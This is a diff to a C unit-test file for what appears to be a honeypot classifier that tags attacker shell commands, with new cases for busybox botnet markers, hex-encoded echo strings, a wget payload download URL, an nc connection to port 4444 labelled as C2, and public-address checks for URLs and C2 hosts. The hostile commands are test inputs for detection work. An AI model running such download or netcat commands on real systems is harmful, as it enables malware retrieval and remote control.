@@ -112,6 +112,11 @@ test_lines(void **state)
 		{ "/bin/busybox ECCHI; /bin/busybox wget; busybox ps", "marker busybox ECCHI PUBLIC" },
 		{ "busybox cat /proc/mounts", "" },
 		{ "busybox X-Y", "" },
+		{ "/bin/busybox PFBGP", "" },
+		{ "/bin/busybox OWARI", "marker busybox OWARI" },
+		{ "echo -e '\\x77\\x76\\x65\\x62\\x69'", "" },
+		{ "wget http://192.168.1.1:8088/i", "url 192.168.1.1:8088/i PUBLIC" },
+		{ "nc 127.0.0.1 4444", "c2 127.0.0.1:4444 PUBLIC" },
 		{ "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'", "marker echo gayfgt PUBLIC" },
 		{ "echo -en \\x6d\\x69\\x6e\\x65\\x72\\x77\\x6f\\x72\\x64", "marker echo minerword" },
 		{ "echo -en '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00'", "" },
@@ -263,6 +268,10 @@ test_public_table(void **state)
 	assert_int_equal(strlen(public_artefacts_version()), 10);
 	assert_false(public_artefact(ARTEFACT_URL, SV("evil.example.org/xmrig")));
 	assert_false(public_artefact(ARTEFACT_URL, SV("drive.google.com/uc?id=1")));
+	assert_true(public_artefact(ARTEFACT_URL, SV("[fe80::1]:80/x")));
+	assert_false(public_artefact(ARTEFACT_URL, SV("[2001:db8::1]:80/x")));
+	assert_true(public_artefact(ARTEFACT_C2, SV("172.31.0.1:80")));
+	assert_false(public_artefact(ARTEFACT_C2, SV("172.32.0.1:80")));
 	assert_true(public_artefact(ARTEFACT_C2, SV("eu.minexmr.com:443")));
 	assert_false(public_artefact(ARTEFACT_C2, SV("minexmr.com.evil.net:443")));
 	assert_true(public_artefact(ARTEFACT_PASSWORD, SV("12345678")));
